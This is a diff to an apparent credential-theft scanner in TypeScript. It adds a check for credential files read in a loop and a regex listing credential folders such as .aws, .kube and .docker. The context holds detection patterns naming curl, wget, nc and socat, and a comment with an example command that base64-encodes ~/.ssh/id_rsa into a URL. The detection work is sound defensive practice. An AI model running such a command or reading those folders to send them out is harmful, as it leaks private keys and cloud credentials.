@@ -6,6 +6,7 @@ import { findAll, proseOf } from './match.ts';
 import {
   SECRET_PATH_SOURCE,
   cloudDirWithVariableHits,
+  credentialNamesReadInLoop,
   fenceAt,
   fencedBlocks,
   isProhibited,
@@ -184,7 +185,9 @@ function codeSources(file: FileView, from: number, to: number): Hit[] {
   }
   // Credential files named in a list and read through a folder joined with a variable.
   if (file.kind === 'script') {
-    for (const h of cloudDirWithVariableHits(file)) if (h.index >= from && h.index < to) hits.push({ index: h.index, length: h.length, label: h.message });
+    for (const h of [...cloudDirWithVariableHits(file), ...credentialNamesReadInLoop(file, ANY_CREDENTIAL_FOLDER)]) {
+      if (h.index >= from && h.index < to) hits.push({ index: h.index, length: h.length, label: h.message });
+    }
   }
   for (const line of logicalLines(text, from, to)) {
     const k = KEYCHAIN_SOURCE.exec(line.line);
@@ -395,6 +398,7 @@ const REMOTE_COPY = /\b(?:scp|rsync)\b([^\n]{0,300})\s[\w.-]+@[\w.-]+:/;
 const PIPE_TO_UPLOAD = /\|\s*(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|socat|http|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/;
 // A URL built from a command substitution: curl "https://x/?d=$(cat ~/.ssh/id_rsa | base64)".
 const GIT_HOOK_FILE = /(?:^|\/)(?:pre-commit|post-commit|commit-msg|prepare-commit-msg|pre-push|post-checkout|post-merge|pre-rebase|post-rewrite)$/;
+const ANY_CREDENTIAL_FOLDER = /["'\x60/\\]\.(?:aws|kube|docker|azure|cargo|gem|config[/\\]gh|composer)\b/;
 const REPOSITORY_CONTENT = /\bgit\s+(?:show|diff|format-patch|archive|bundle\s+create|log\b[^|\n]{0,60}\s(?:-p|--patch)\b)/;
 const URL_WITH_SUBSTITUTION = /https?:\/\/[^\s"'`]*\$\(/;
 
